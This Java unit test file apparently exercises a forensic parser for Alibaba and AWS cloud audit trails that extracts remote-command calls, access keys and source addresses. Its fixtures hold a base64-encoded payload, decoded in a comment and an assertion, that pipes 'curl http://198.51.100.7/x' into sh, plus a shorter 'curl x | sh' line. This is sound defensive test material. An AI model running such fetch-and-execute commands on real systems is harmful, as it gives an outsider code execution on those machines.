package davy.core.cloud;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import org.junit.jupiter.api.Test;

/// Records in the forms of the manuals of ActionTrail, the log service, CloudTrail and CloudAudit.
final class TrailReaderTest {
    /// `echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d`
    private static final String CONTENT = "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==";

    private static final String ALIYUN =
            "{\"eventId\":\"E-1\",\"eventName\":\"RunCommand\",\"eventSource\":\"ecs-cn-beijing.aliyuncs.com\","
                    + "\"eventTime\":\"2021-12-26T05:39:00Z\",\"sourceIpAddress\":\"203.0.113.9\","
                    + "\"userAgent\":\"aliyun-sdk-python/2.13\",\"requestParameters\":{\"CommandContent\":\""
                    + CONTENT
                    + "\",\"Type\":\"RunShellScript\",\"InstanceId.1\":\"i-a\",\"InstanceId.2\":\"i-b\","
                    + "\"RepeatMode\":\"Once\"},\"responseElements\":{\"CommandId\":\"c-bj1\",\"InvokeId\":\"t-bj1\"},"
                    + "\"userIdentity\":{\"type\":\"ram-user\",\"accountId\":\"123\",\"userName\":\"ops\","
                    + "\"accessKeyId\":\"LTAI5tFakeKeyForCases001\"}}";

    private static Trail read(String text) {
        return new TrailReader().add("t", text.getBytes(StandardCharsets.UTF_8)).done();
    }

    private static void isTheCall(Trail trail) {
        assertThat(trail.problems()).isEmpty();
        assertThat(trail.commands()).hasSize(1);
        var call = trail.commands().getFirst();
        assertThat(call.channel()).isEqualTo(Channel.ALIYUN);
        assertThat(call.call()).isEqualTo("RunCommand");
        assertThat(call.key()).isEqualTo("LTAI5tFakeKeyForCases001");
        assertThat(call.user()).isEqualTo("ops");
        assertThat(call.account()).isEqualTo("123");
        assertThat(call.address()).isEqualTo("203.0.113.9");
        assertThat(call.agent()).isEqualTo("aliyun-sdk-python/2.13");
        assertThat(call.instances()).containsExactly("i-a", "i-b");
        assertThat(call.ids()).containsExactly("t-bj1", "c-bj1");
        assertThat(call.content()).isEqualTo("curl http://198.51.100.7/x | sh");
        assertThat(call.schedule()).isEmpty();
        assertThat(String.valueOf(call.time())).isEqualTo("2021-12-26T05:39:00Z");
    }

    @Test
    void plainRecordInEveryWrapping() {
        isTheCall(read(ALIYUN));
        isTheCall(read("[" + ALIYUN + "]"));
        isTheCall(read("{\"Records\":[" + ALIYUN + "]}"));
        isTheCall(read("{\"RequestId\":\"x\",\"Events\":[" + ALIYUN + "," + ALIYUN + "]}"));
        String other =
                "{\"eventId\":\"E-2\",\"eventName\":\"StopInstance\",\"eventTime\":\"2021-12-26T05:39:00Z\"}";
        isTheCall(read(ALIYUN + "\n" + other + "\n"));
    }

    @Test
    void wrappedByTheLogService() {
        String quoted = ALIYUN.replace("\\", "\\\\").replace("\"", "\\\"");
        isTheCall(
                read(
                        "{\"__topic__\":\"actiontrail_audit_event\",\"__time__\":\"1640497140\",\"event\":\""
                                + quoted
                                + "\"}"));
        isTheCall(
                read(
                        "{\"__topic__\":\"actiontrail_event\",\"event\":"
                                + ALIYUN
                                + "}\n{\"x\":1}\n"));
        var flat =
                read(
                        "{\"__topic__\":\"actiontrail_event\",\"event.eventName\":\"RunCommand\","
                                + "\"event.eventTime\":\"2021-12-26T05:39:00Z\","
                                + "\"event.sourceIpAddress\":\"203.0.113.9\","
                                + "\"event.userIdentity.accessKeyId\":\"LTAI5tFakeKeyForCases001\"}");
        assertThat(flat.commands()).hasSize(1);
        assertThat(flat.commands().getFirst().key()).isEqualTo("LTAI5tFakeKeyForCases001");
    }

    @Test
    void parametersAsJsonInAString() {
        var trail =
                read(
                        "{\"eventName\":\"RunCommand\",\"eventSource\":\"ecs.aliyuncs.com\","
                                + "\"requestParameterJson\":\"{\\\"CommandContent\\\":\\\""
                                + CONTENT
                                + "\\\",\\\"InstanceIds\\\":\\\"[\\\\\\\"i-a\\\\\\\"]\\\"}\"}");
        assertThat(trail.commands().getFirst().content()).contains("198.51.100.7");
        assertThat(trail.commands().getFirst().instances()).containsExactly("i-a");
    }

    @Test
    void invocationHasTheContentOfItsCommand() {
        var trail =
                read(
                        "[{\"eventName\":\"CreateCommand\",\"eventSource\":\"ecs.aliyuncs.com\","
                                + "\"requestParameters\":{\"CommandContent\":\""
                                + CONTENT
                                + "\"},\"responseElements\":{\"CommandId\":\"c-1\"}},"
                                + "{\"eventName\":\"InvokeCommand\",\"eventSource\":\"ecs.aliyuncs.com\","
                                + "\"requestParameters\":{\"CommandId\":\"c-1\",\"InstanceId\":[\"i-a\"]},"
                                + "\"responseElements\":{\"InvokeId\":\"t-1\"}}]");
        assertThat(trail.commands().get(1).content()).contains("198.51.100.7");
    }

    @Test
    void amazonHidesOrShowsTheContent() {
        String record =
                "{\"Records\":[{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"AssumedRole\","
                        + "\"arn\":\"arn:aws:sts::1:assumed-role/R/s\",\"accessKeyId\":\"ASIAFAKEFAKEFAKEFAK2\","
                        + "\"sessionContext\":{\"sessionIssuer\":{\"userName\":\"R\"}}},"
                        + "\"eventTime\":\"2024-04-10T12:20:15Z\",\"eventSource\":\"ssm.amazonaws.com\","
                        + "\"eventName\":\"SendCommand\",\"sourceIPAddress\":\"203.0.113.50\","
                        + "\"requestParameters\":{\"documentName\":\"AWS-RunShellScript\","
                        + "\"instanceIds\":[\"i-0abc\"],\"parameters\":%s},"
                        + "\"responseElements\":{\"command\":{\"commandId\":\"11112222-0000\"}}}]}";
        var hidden = read(record.formatted("\"HIDDEN_DUE_TO_SECURITY_REASONS\"")).commands();
        assertThat(hidden.getFirst().content()).isEmpty();
        var masked = read(record.formatted("{\"commands\":\"HIDDEN_DUE_TO_SECURITY_REASONS\"}"));
        assertThat(masked.commands().getFirst().content()).isEmpty();
        assertThat(hidden.getFirst().channel()).isEqualTo(Channel.AWS);
        assertThat(hidden.getFirst().ids()).containsExactly("11112222-0000");
        assertThat(hidden.getFirst().user()).isEqualTo("R");
        var shown = read(record.formatted("{\"commands\":[\"id\",\"curl x | sh\"]}")).commands();
        assertThat(shown.getFirst().content()).isEqualTo("id\ncurl x | sh");
    }

    @Test
    void keysAreCounted() {
        var trail =
                read(
                        ALIYUN
                                + "\n"
                                + ALIYUN.replace("E-1", "E-2").replace("203.0.113.9", "192.0.2.1"));
        var use = trail.keys().get("LTAI5tFakeKeyForCases001");
        assertThat(use.calls()).isEqualTo(2);
        assertThat(use.addresses()).containsExactly("192.0.2.1", "203.0.113.9");
        assertThat(trail.events()).isEqualTo(2);
    }

    @Test
    void brokenLinesAreToldAndSpoilNothing() {
        var trail = read(ALIYUN + "\n{\"eventName\":\n" + ALIYUN.replace("E-1", "E-2") + "\n");
        assertThat(trail.commands()).hasSize(2);
        assertThat(trail.problems().get("t")).contains("1 broken lines").contains("line 2");
        assertThat(read("hello").problems()).containsKey("t");
        assertThat(read("{\"a\":1}").problems()).containsEntry("t", "no records of a trail");
    }

    @Test
    void junkDoesNotThrow() {
        var random = new Random(7);
        byte[] good = ("[" + ALIYUN + "]").getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < 2000; i++) {
            byte[] bad = good.clone();
            for (int j = 0; j < 5; j++) {
                bad[random.nextInt(bad.length)] = (byte) random.nextInt(256);
            }
            assertThat(new TrailReader().add("j", bad).done()).isNotNull();
        }
        assertThat(read("[".repeat(100_000)).events()).isZero();
        assertThat(read("{\"a\":".repeat(5000)).events()).isZero();
    }

    /// 62 records of a recorded attack, counted with `grep -c eventName`; three addresses.
    @Test
    void recordedAttack() throws IOException {
        var file =
                Path.of(
                        "../../shared/data/cloud/aws/ec2_proxy_s3_exfiltration_2020-09-14011940.json");
        assumeTrue(Files.exists(file), "no data of recorded attacks here: skipped");
        byte[] bytes = Files.readAllBytes(file);
        var trail = new TrailReader().add("aws", bytes).done();
        long lines = new String(bytes, StandardCharsets.UTF_8).lines().count();
        assertThat(trail.problems()).isEmpty();
        assertThat(trail.events()).isEqualTo(lines);
        assertThat(trail.keys().get("ASIA5FLZVX4OI4ZDQJOL").addresses()).contains("1.2.3.4");
    }
}
